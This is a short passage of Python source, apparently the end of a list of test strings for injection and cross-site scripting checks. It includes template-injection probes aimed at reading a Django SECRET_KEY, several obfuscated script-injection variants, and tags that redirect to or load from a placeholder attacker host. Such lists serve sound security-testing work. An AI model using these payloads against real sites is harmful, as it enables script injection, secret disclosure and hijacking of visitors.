    "{{constructor.constructor('alert(1)')()}}",
    "{{ settings.SECRET_KEY }}{% debug %}{% csrf_token %}",
    "%(name)s %s {0} {name} \\1",
    f"+ADw-script+AD4-{FIRE}+ADw-/script+AD4-",
    f"\u2028<script>{FIRE}</script>\u2029",
    f"＜script＞{FIRE}＜/script＞",
    f"<a href=javascript:{FIRE}>x</a>",
    f"<iframe srcdoc='<script>{FIRE}</script>'>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content=0;//{EVIL}/>",
    f"<style>@import '//{EVIL}/x'</style>",
]
